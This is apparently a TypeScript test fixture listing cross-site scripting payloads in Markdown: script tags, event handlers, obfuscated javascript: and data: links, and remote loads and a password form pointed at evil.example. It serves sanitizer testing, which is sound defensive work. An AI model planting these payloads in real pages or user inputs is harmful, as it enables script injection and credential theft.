// Markdown bodies that try to get script, event handlers, dangerous URLs or styles into a rendered
// training module. Each one is rendered by tests/unit/training/markdown.test.ts and the output is
// parsed and checked against the allow-list. Sources: OWASP XSS filter evasion cheat sheet,
// PortSwigger XSS cheat sheet, and known Markdown-renderer bypasses (reference links, autolinks,
// entity-encoded schemes, titles that break out of attributes).

export interface XssCase {
  name: string
  markdown: string
}

const TAB = '\t'
const NUL = '\u0000'

export const XSS_CORPUS: readonly XssCase[] = [
  // --- raw HTML: must come out as text
  { name: 'script tag', markdown: '<script>alert(1)</script>' },
  { name: 'script tag inline', markdown: 'Hello <script>alert(document.cookie)</script> world' },
  { name: 'script with src', markdown: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', markdown: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'split script', markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror quoted', markdown: '<img src="x" onerror="alert(\'xss\')" />' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg with script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate href', markdown: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'div onmouseover', markdown: '<div onmouseover="alert(1)">hover me</div>' },
  { name: 'a with javascript href (html)', markdown: '<a href="javascript:alert(1)">click</a>' },
  { name: 'iframe', markdown: '<iframe src="https://evil.example"></iframe>' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', markdown: '<embed src="https://evil.example/x.swf">' },
  { name: 'form action', markdown: '<form action="https://evil.example"><input name=password><button>Go</button></form>' },
  { name: 'button formaction', markdown: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'math href', markdown: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>' },
  { name: 'style tag', markdown: '<style>body{background:url(javascript:alert(1))}</style>' },
  { name: 'style attribute', markdown: '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', markdown: '<base href="https://evil.example/">' },
  { name: 'html comment', markdown: '<!-- <script>alert(1)</script> -->' },
  { name: 'conditional comment', markdown: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'cdata', markdown: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', markdown: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'template', markdown: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'noscript breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'textarea breakout', markdown: '<textarea></textarea><script>alert(1)</script>' },
  { name: 'table cell html', markdown: '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |' },
  { name: 'html block then markdown', markdown: '<div>\n\n[click](javascript:alert(1))\n\n</div>' },

  // --- Markdown links and images with dangerous schemes
  { name: 'md link javascript', markdown: '[click](javascript:alert(1))' },
  { name: 'md link JavaScript mixed case', markdown: '[click](JaVaScRiPt:alert(1))' },
  { name: 'md link javascript entity colon', markdown: '[click](javascript&colon;alert(1))' },
  { name: 'md link javascript numeric entities', markdown: '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))' },
  { name: 'md link javascript hex entities', markdown: '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))' },
  { name: 'md link javascript tab entity', markdown: '[click](java&#x09;script:alert(1))' },
  { name: 'md link javascript newline entity', markdown: '[click](java&#10;script:alert(1))' },
  { name: 'md link javascript literal tab', markdown: `[click](<java${TAB}script:alert(1)>)` },
  { name: 'md link javascript NUL', markdown: `[click](java${NUL}script:alert(1))` },
  { name: 'md link leading control char', markdown: '[click](<\u0001javascript:alert(1)>)' },
  { name: 'md link percent-encoded scheme', markdown: '[click](javascript%3Aalert(1))' },
  { name: 'md link percent-encoded letters', markdown: '[click](%6Aavascript:alert(1))' },
  { name: 'md link angle brackets', markdown: '[click](<javascript:alert(1)>)' },
  { name: 'md link with spaces before scheme', markdown: '[click](   javascript:alert(1))' },
  { name: 'md link backslash', markdown: '[click](\\javascript:alert(1))' },
  { name: 'md link vbscript', markdown: '[click](vbscript:msgbox(1))' },
  { name: 'md link VBScript mixed case', markdown: '[click](VbScRiPt:msgbox(1))' },
  { name: 'md link data html', markdown: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md link data mixed case', markdown: '[click](DaTa:text/html,<script>alert(1)</script>)' },
  { name: 'md link file', markdown: '[click](file:///etc/passwd)' },
  { name: 'md image javascript', markdown: '![x](javascript:alert(1))' },
  { name: 'md image data svg', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'md image data png', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'md image vbscript', markdown: '![x](vbscript:msgbox(1))' },
  { name: 'md image protocol-relative', markdown: '![x](//evil.example/x.png)' },
  { name: 'md image backslash protocol-relative', markdown: '![x](\\\\evil.example\\x.png)' },
  { name: 'md image https without slashes', markdown: '![x](https:evil.example/x.png)' },
  { name: 'md image relative', markdown: '![x](/uploads/../../x.png)' },
  { name: 'md image javascript entity', markdown: '![x](&#106;avascript:alert(1))' },
  { name: 'md image with credentials', markdown: '![x](https://user:pass@evil.example/x.png)' },
  { name: 'md image alt script', markdown: '![<script>alert(1)</script>](https://example.com/a.png)' },
  { name: 'md image alt javascript', markdown: '![javascript:alert(1)](https://example.com/a.png)' },

  // --- titles, attributes and nesting
  { name: 'link title breaks quotes', markdown: '[x](https://example.com "a\\" onmouseover=\\"alert(1)")' },
  { name: 'link title single quote break', markdown: "[x](https://example.com 'a' onmouseover='alert(1)')" },
  { name: 'link title with javascript', markdown: '[x](https://example.com "javascript:alert(1)")' },
  { name: 'image title breaks out', markdown: '![x](https://example.com/a.png "\\"><script>alert(1)</script>")' },
  { name: 'link url with quote', markdown: '[x](https://example.com/"onmouseover="alert(1))' },
  { name: 'link url with angle', markdown: '[x](<https://example.com/"><script>alert(1)</script>>)' },
  { name: 'nested markdown in alt', markdown: '![a [b](javascript:alert(1)) c](https://example.com/a.png)' },
  { name: 'image inside javascript link', markdown: '[![x](https://example.com/a.png)](javascript:alert(1))' },
  { name: 'link text is html', markdown: '[<img src=x onerror=alert(1)>](https://example.com)' },
  { name: 'entity-encoded tag', markdown: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'double-encoded entity', markdown: '[x](&amp;#106;avascript:alert(1))' },

  // --- reference-style links, autolinks, footnotes
  { name: 'reference link javascript', markdown: '[click][1]\n\n[1]: javascript:alert(1)' },
  { name: 'reference link data', markdown: '[click][evil]\n\n[evil]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "t"' },
  { name: 'reference image javascript', markdown: '![x][img]\n\n[img]: javascript:alert(1)' },
  { name: 'collapsed reference', markdown: '[JavaScript:alert(1)][]\n\n[javascript:alert(1)]: javascript:alert(1)' },
  { name: 'autolink javascript', markdown: '<javascript:alert(1)>' },
  { name: 'autolink vbscript', markdown: '<vbscript:msgbox(1)>' },
  { name: 'autolink data', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'gfm literal autolink javascript', markdown: 'go to javascript:alert(1) now, or www.example.com/"onmouseover="alert(1)' },
  { name: 'email autolink trick', markdown: '<mailto:a@example.com?subject="><script>alert(1)</script>>' },
  { name: 'footnote label html', markdown: 'See[^<img src=x onerror=alert(1)>].\n\n[^<img src=x onerror=alert(1)>]: <script>alert(1)</script>' },
  { name: 'footnote label clobber', markdown: 'See[^__proto__] and [^main].\n\n[^__proto__]: a\n[^main]: b' },

  // --- code
  { name: 'fenced code closing tags', markdown: '```\n</code></pre><script>alert(1)</script>\n```' },
  { name: 'fenced code language injection', markdown: '```js" onmouseover="alert(1)\nconst a = 1\n```' },
  { name: 'fenced code language html', markdown: '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```' },
  { name: 'inline code with tags', markdown: '`</code><script>alert(1)</script>`' },
  { name: 'indented code', markdown: '    <script>alert(1)</script>' },

  // --- headings and ids
  { name: 'heading with html', markdown: '# <img src=x onerror=alert(1)> Title' },
  { name: 'heading id clobbering', markdown: '# location\n\n# cookie\n\n# main' },

  // --- video embeds that must not turn into frames
  { name: 'video lookalike host', markdown: 'https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ' },
  { name: 'video javascript id', markdown: '[v](https://www.youtube.com/watch?v=javascript:alert(1))' },
  { name: 'video id with quote', markdown: 'https://youtu.be/abc"onload="x' },
  { name: 'video credentials trick', markdown: '<https://youtu.be@evil.example/dQw4w9WgXcQ>' },
]
